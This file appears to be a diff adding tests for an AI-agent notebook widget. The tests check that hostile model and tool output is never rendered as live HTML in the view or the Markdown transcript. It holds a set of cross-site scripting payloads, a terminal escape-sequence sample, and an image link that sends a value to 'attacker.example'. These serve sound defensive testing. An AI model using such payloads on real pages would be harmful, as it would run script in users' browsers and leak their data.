@@ -1,0 +1,173 @@
+"""Hostile model and tool output never reaches the frontend as live HTML, in the
+live view or in the saved Markdown transcript; the transcript reads well."""
+
+from __future__ import annotations
+
+import base64
+
+from markdown_it import MarkdownIt
+
+from pi_notebook.agent.types import (AgentEndEvent, AgentStartEvent, AgentToolResult, MessageStartEvent,
+                                     ToolExecutionEndEvent, ToolExecutionStartEvent,
+                                     ToolExecutionUpdateEvent)
+from pi_notebook.ai.types import TextContent, TextDeltaEvent, ToolCall, UserMessage
+from pi_notebook.widgets.text import render_event_text
+
+from widget_helpers import AssistantStream, CommLog, html_problems, user_turn
+
+HOSTILE = (
+    "Here is **bold**.\n\n<img src=x onerror=alert(1)>\n\n<script>alert(2)</script>\n\n"
+    "[click](javascript:alert(3)) and <a href=\"javascript:alert(4)\">raw</a> "
+    "[ent](&#106;avascript:alert(5)) ![leak](https://attacker.example/x.png?k=1)\n\n"
+    "```python\nprint('</code></pre><img src=x onerror=alert(6)>')\n```\n"
+)
+PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\x01" * 12).decode()
+_PERMISSIVE = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
+
+
+def _hostile_run(view) -> None:
+    view.handle_event(AgentStartEvent())
+    view.add_user_message("<img src=x onerror=alert('user')> plot df", "prompt")
+    view.handle_event(MessageStartEvent(message=UserMessage(content="<img src=x onerror=alert('user')> plot df")))
+    stream = AssistantStream(view).start()
+    stream.thinking("<script>alert('thinking')</script>")
+    stream.text(HOSTILE, pieces=17)
+    index = stream.tool_call_start("t1", "<img src=x onerror=alert('name')>")
+    stream.tool_call_delta(index, {"code": "print('<script>alert(7)</script>')"})
+    stream.tool_call_end(index)
+    stream.end(stop_reason="toolUse")
+    args = {"code": "print('<script>alert(7)</script>')"}
+    name = "<img src=x onerror=alert('name')>"
+    view.handle_event(ToolExecutionStartEvent(tool_call_id="t1", tool_name=name, args=args))
+    for details in (
+        {"event": "stream", "name": "stdout", "text": "<script>alert(8)</script>\n"},
+        {"event": "stream", "name": "stderr", "text": "<img src=x onerror=alert(9)>\n"},
+        {"event": "display", "data": {"text/html": "<img src=x onerror=alert(10)>",
+                                      "text/plain": "<b>plain</b>"}},
+        {"event": "display", "data": {"image/svg+xml": "<svg onload=alert(11)></svg>"}},
+        {"event": "display", "data": {"image/png": "not base64 \" onerror=alert(12) x=\""}},
+        {"event": "display", "data": {"image/png": PNG}},
+        {"event": "display", "data": {"application/javascript": "alert(13)"}},
+    ):
+        view.handle_event(ToolExecutionUpdateEvent(tool_call_id="t1", tool_name=name, args=args,
+                                                   partial_result=AgentToolResult(details=details)))
+    view.handle_event(ToolExecutionEndEvent(
+        tool_call_id="t1", tool_name=name,
+        result=AgentToolResult(content=[TextContent(text="<iframe src=javascript:alert(14)>")]),
+        is_error=True))
+    view.show_notice("<img src=x onerror=alert('notice')>", "warning")
+    view.show_queued("steer", "<script>alert('queued')</script>", "q1")
+    final = AssistantStream(view).start()
+    final.text(HOSTILE)
+    message = final.end()
+    view.handle_event(AgentEndEvent(messages=[message]))
+    view.finish("done")
+
+
+async def test_nothing_sent_to_the_frontend_can_run_script(view, comms: CommLog):
+    view.set_model_label("<img src=x onerror=alert('model')>")
+    _hostile_run(view)
+    values = comms.all_html_values()
+    assert values
+    for value in values:
+        if value.startswith("<style>"):
+            continue  # our own stylesheet (trusted), checked separately
+        assert html_problems(value) == [], value
+        assert "<script" not in value.lower() and "<iframe" not in value.lower()
+        assert "<svg" not in value.lower()
+    everything = "\n".join(values)
+    assert f"data:image/png;base64,{PNG}" in everything   # a valid PNG display is shown
+    assert "&lt;b&gt;plain&lt;/b&gt;" in everything        # text/plain instead of text/html
+    assert "alert(10)" not in everything and "alert(11)" not in everything and "alert(13)" not in everything
+
+
+async def test_stylesheet_is_sent_once_and_is_only_css(view, comms: CommLog):
+    _hostile_run(view)
+    styles = [v for v in comms.all_html_values() if v.startswith("<style>")]
+    assert len(styles) == 1
+    assert styles[0].count("<") == 2  # <style> ... </style>, nothing else
+
+
+async def test_transcript_is_safe_and_complete(view, comms: CommLog):
+    _hostile_run(view)
+    md = view.to_markdown()
+    html = _PERMISSIVE.render(md)
+    assert html_problems(html) == [], html
+    assert "<script" not in html.lower() and "<iframe" not in html.lower()
+    # content is all there, readable
+    assert md.startswith("🤖 **") and " · done · " in md.splitlines()[0]
+    assert "> **You:**" in md and "plot df" in md
+    assert "Here is **bold**." in md
+    assert "```python\nprint('</code></pre><img src=x onerror=alert(6)>')\n```" in md  # code verbatim
+    assert "```text\n<script>alert(8)</script>\n```" in md  # tool output in a fence
+    assert "<details><summary>Thought for" in md
+    assert f"![output](data:image/png;base64,{PNG})" in md
+    assert "· error ·" in md  # the tool card's status
+
+
+async def test_transcript_of_a_plain_run(view, comms: CommLog):
+    view.handle_event(AgentStartEvent())
+    view.add_user_message("What is 2+2?")
+    stream = AssistantStream(view).start()
+    index = stream.tool_call_start("c1", "python")
+    stream.tool_call_delta(index, {"code": "print(2 + 2)"})
+    stream.tool_call_end(index)
+    stream.end(stop_reason="toolUse")
+    view.handle_event(ToolExecutionStartEvent(tool_call_id="c1", tool_name="python", args={"code": "print(2 + 2)"}))
+    view.handle_event(ToolExecutionUpdateEvent(
+        tool_call_id="c1", tool_name="python", args={"code": "print(2 + 2)"},
+        partial_result=AgentToolResult(details={"event": "stream", "name": "stdout", "text": "4\n"})))
+    view.handle_event(ToolExecutionEndEvent(tool_call_id="c1", tool_name="python",
+                                            result=AgentToolResult(content=[TextContent(text="4")]),
+                                            is_error=False))
+    final = AssistantStream(view).start()
+    final.text("It is **4**.")
+    view.handle_event(AgentEndEvent(messages=[final.end()]))
+    view.set_context_usage(2_000, 128_000)
+    view.finish()
+    md = view.to_markdown()
+    lines = md.split("\n\n")
+    assert lines[0].startswith("🤖 **faux/test-model** · done · ")
+    assert "240 tokens in / 60 out" in lines[0] and "$0.0042" in lines[0] and "context 2%" in lines[0]
+    assert lines[1] == "> **You:**\n> What is 2+2?"
+    assert lines[2].startswith("**⚙ python** · done · ")
+    assert lines[3] == "```python\nprint(2 + 2)\n```"
+    assert lines[4] == "```text\n4\n```"
+    assert lines[5] == "It is **4**.\n"
+    assert md.endswith("It is **4**.\n")
+
+
+async def test_context_meter_in_header(view, comms: CommLog):
+    view.set_context_usage(96_000, 128_000)
+    view.flush()
+    header = comms.last_value(view._header)
+    assert "75%" in header and "pi-warn" in header and "96,000 of 128,000" in header
+
+
+def test_render_event_text_plain_mode():
+    from pi_notebook.agent.types import MessageEndEvent, MessageUpdateEvent
+    from pi_notebook.ai.types import AssistantMessage, ToolCallEndEvent
+
+    partial = AssistantMessage()
+    delta = MessageUpdateEvent(message=partial, assistant_message_event=TextDeltaEvent(
+        content_index=0, delta="Hi \x1b]0;pwned\x07there\x1b[2J", partial=partial))
+    assert render_event_text(delta) == "Hi there"
+    call = ToolCall(id="c", name="python", arguments={"code": "x = 1\nprint(x)"})
+    end = MessageUpdateEvent(message=partial, assistant_message_event=ToolCallEndEvent(
+        content_index=0, tool_call=call, partial=partial))
+    assert render_event_text(end) == "\n[python]\n    x = 1\n    print(x)\n"
+    upd = ToolExecutionUpdateEvent(tool_call_id="c", tool_name="python", args={}, partial_result=AgentToolResult(
+        details={"event": "stream", "name": "stdout", "text": "1\n"}))
+    assert render_event_text(upd) == "1\n"
+    img = ToolExecutionUpdateEvent(tool_call_id="c", tool_name="python", args={}, partial_result=AgentToolResult(
+        details={"event": "display", "data": {"image/png": PNG, "text/html": "<b>x</b>"}}))
+    assert render_event_text(img) == "[image/png output]\n"
+    failed = ToolExecutionEndEvent(tool_call_id="c", tool_name="python", is_error=True,
+                                   result=AgentToolResult(content=[TextContent(text="NameError: y")]))
+    assert render_event_text(failed) == "[python failed]\n    NameError: y\n"
+    ok = ToolExecutionEndEvent(tool_call_id="c", tool_name="python", is_error=False,
+                               result=AgentToolResult(content=[TextContent(text="1")]))
+    assert render_event_text(ok) == "[python done]\n"
+    error = AssistantMessage(stop_reason="error", error_message="Set OPENAI_API_KEY")
+    assert render_event_text(MessageEndEvent(message=error)) == "\n[error] Set OPENAI_API_KEY\n"
+    assert render_event_text(AgentStartEvent()) is None
